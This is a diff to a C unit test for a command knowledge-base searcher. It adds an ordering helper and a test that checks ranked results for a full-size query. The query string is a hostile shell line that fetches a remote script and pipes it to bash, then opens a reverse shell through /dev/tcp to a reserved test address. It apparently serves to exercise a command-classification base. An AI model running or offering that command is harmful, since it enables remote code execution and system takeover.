@@ -45,6 +45,11 @@ static void assert_hits_equal(const kb_hit *a, const kb_hit *b, int n) {
     }
 }
 
+/* a ranks before b in the documented order (score desc, index asc) */
+static bool better_or_equal(kb_hit a, kb_hit b) {
+    return a.score > b.score || (a.score == b.score && a.index < b.index);
+}
+
 static int query(const nj_kb *kb, const char *q, int k, double div, kb_hit *h) {
     int err = 0;
     nj_kb_searcher *s = kb_searcher_new(kb, &err);
@@ -532,6 +537,25 @@ static void test_shipped_kb(void **st) {
         if (!found) fail_msg("entry %zu [%s] is not in its own top 5", i, e->cmd);
     }
     for (int l = 0; l < KB_NLABELS; l++) assert_true(counts[l] >= kb_size(kb) / 10);
+    /* k as large as the base: every entry sharing a token, in order, once */
+    size_t n_all = kb_size(kb);
+    kb_hit *all = calloc(n_all, sizeof *all);
+    unsigned char *seen = calloc(n_all, 1);
+    assert_non_null(all);
+    assert_non_null(seen);
+    const char *q = "sudo curl -fsSL http://192.0.2.1/x.sh | bash -i >& /dev/tcp/192.0.2.1/443 0>&1";
+    int n = kb_query(s, q, strlen(q), (int)n_all, NULL, all);
+    assert_true(n > 100);
+    for (int j = 0; j < n; j++) {
+        assert_false(seen[all[j].index]);
+        seen[all[j].index] = 1;
+        if (j) assert_true(better_or_equal(all[j - 1], all[j]));
+    }
+    kb_hit top[5];
+    assert_int_equal(kb_query(s, q, strlen(q), 5, NULL, top), 5);
+    assert_hits_equal(all, top, 5);
+    free(all);
+    free(seen);
     kb_searcher_free(s);
     kb_free(kb);
 }
